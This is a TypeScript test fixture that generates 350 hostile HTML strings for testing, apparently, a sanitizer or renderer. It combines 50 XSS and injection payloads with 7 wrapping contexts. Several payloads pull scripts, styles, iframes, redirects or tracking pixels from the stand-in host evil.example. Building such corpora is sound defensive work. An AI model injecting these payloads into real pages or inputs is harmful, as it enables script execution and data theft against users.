/** Markup that ran, loaded, moved or hid something in some reader once; written anew, one idea each. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">here</a>',
  '<a href="JaVaScRiPt:alert(1)">here</a>',
  '<a href=" &#14; javascript:alert(1)">here</a>',
  '<a href="java&#x09;script:alert(1)">here</a>',
  '<a href="data:text/html,<script>alert(1)</script>">here</a>',
  '<a href="vbscript:msgbox(1)">here</a>',
  '<a href="file:///etc/passwd">here</a>',
  '<a href="blob:https://evil.example/1">here</a>',
  '<a href="app://porte-parole/">here</a>',
  '<form action="https://evil.example/"><input name=q><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<div style="background: url(https://evil.example/x)">x</div>',
  '<div style="position: fixed; inset: 0; z-index: 9999">over everything</div>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  '<p id="porteParole">clobbered</p>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'"
]

/** Where an attack may stand. */
const places: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<p>Bonjour ${attack} merci</p>`,
  (attack) => `<a href="https://example.org/">${attack}</a>`,
  (attack) => `<b>${attack}`,
  (attack) => attack.replaceAll('<', '<\0').replaceAll('>', '\u200B>'),
  (attack) => `<div title="${attack}">words</div>`,
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
]

/** 350 vectors: each attack in each place. */
export const hostileMarkup: readonly string[] = attacks.flatMap((attack) =>
  places.map((place) => place(attack))
)
